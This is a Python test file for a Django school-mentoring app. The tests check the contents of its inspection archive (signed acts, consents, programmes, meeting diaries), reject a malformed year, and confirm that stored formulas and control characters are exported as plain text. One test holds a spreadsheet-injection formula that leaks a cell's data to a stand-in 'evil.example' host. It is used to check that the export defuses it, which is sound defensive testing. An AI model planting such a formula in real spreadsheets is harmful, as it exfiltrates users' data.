"""The inspection archive: signed acts with scans, consents, ПНП, diaries and the contents."""

import datetime
import io
import zipfile

import openpyxl
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document as Docx

from apps.documents.models import DocKind
from apps.documents.services import attach_scan, issue
from apps.documents.tests.test_documents import PDF, world  # noqa: F401
from apps.people.models import Person
from apps.programs.models import Meeting, Task
from apps.programs.programme import programme_for


def download_archive(client, school, capture, year="2026/2027"):
    """Start the archive job as the page does, follow it to its end and fetch the file."""
    with capture(execute=True):
        started = client.post(reverse("documents:archive", args=[school.pk]), {"year": year})
    assert started.status_code == 302
    page = client.get(started["Location"])
    assert "Скачать «" in page.content.decode()
    return client.get(started["Location"] + "file/")


def test_the_archive_holds_everything_an_inspector_asks_for(
    curator_client,
    school,
    world,  # noqa: F811
    django_capture_on_commit_callbacks,
):
    day = datetime.date(2026, 11, 25)
    signed = issue(org=school, kind=DocKind.PAIRS, by=None, day=day, unit_ids=[world["unit"].pk])
    attach_scan(signed, SimpleUploadedFile("signed.pdf", PDF), by=None)
    issue(org=school, kind=DocKind.CURATOR, by=None, day=day)  # a draft: not in the archive
    Meeting.objects.create(unit=world["unit"], date=day, topic="Разбор урока", outcome="Итоги")
    response = download_archive(curator_client, school, django_capture_on_commit_callbacks)
    assert response["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    names = archive.namelist()
    acts = [n for n in names if n.startswith("01 Приказы и акты/")]
    assert len(acts) == 2  # the signed order and its scan, not the draft
    assert any(n.endswith("(скан).pdf") for n in acts)
    assert "02 Согласия/Реестр согласий.xlsx" in names
    assert any(n.startswith("03 ПНП/Петров Сергей Иванович") for n in names)
    assert "04 Дневники встреч/Дневники встреч.xlsx" in names
    contents = Docx(io.BytesIO(archive.read("00 Оглавление.docx")))
    listed = [row.cells[1].text for row in contents.tables[0].rows[1:]]
    assert sorted(listed) == sorted(n for n in names if n != "00 Оглавление.docx")


def test_a_malformed_year_is_400(curator_client, school):
    url = reverse("documents:archive", args=[school.pk])
    assert curator_client.post(url, {"year": "2026/2030"}).status_code == 400
    assert curator_client.post(url, {"year": "abc"}).status_code == 400


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Подробнее")'


def test_it_archives_stored_formulas_and_control_characters_as_plain_text(
    curator_client,
    school,
    world,  # noqa: F811
    django_capture_on_commit_callbacks,
):
    day = datetime.date(2026, 11, 25)
    signed = issue(org=school, kind=DocKind.PAIRS, by=None, day=day, unit_ids=[world["unit"].pk])
    attach_scan(signed, SimpleUploadedFile("signed.pdf", PDF), by=None)
    # What an older version or the API let through, stored as it came.
    Person.objects.filter(pk=world["mentor"].pk).update(last_name="Петров\x18")
    Meeting.objects.create(
        unit=world["unit"], date=day, topic=FORMULA, outcome="Итоги\x0bвстречи", next_steps="-1+1"
    )
    Task.objects.create(
        programme=programme_for(world["unit"]), direction="Методика\x1b", title="Урок\x0b",
        deadline=day, responsible=world["mentor"],
    )  # fmt: skip
    response = download_archive(curator_client, school, django_capture_on_commit_callbacks)
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    diary = openpyxl.load_workbook(
        io.BytesIO(archive.read("04 Дневники встреч/Дневники встреч.xlsx"))
    ).active
    mentor, _date, _minutes, topic, outcome, next_steps = diary[2]
    assert (mentor.data_type, mentor.value) == ("s", "Петров Сергей Иванович")
    assert (topic.data_type, topic.value, topic.quotePrefix) == ("s", FORMULA, True)
    assert (outcome.data_type, outcome.value) == ("s", "Итогивстречи")
    assert (next_steps.data_type, next_steps.value, next_steps.quotePrefix) == ("s", "-1+1", True)
    programme = Docx(
        io.BytesIO(archive.read(f"03 ПНП/Петров Сергей Иванович — пара {world['unit'].pk}.docx"))
    )
    assert [c.text for c in programme.tables[1].rows[1].cells[1:3]] == ["Методика", "Урок"]
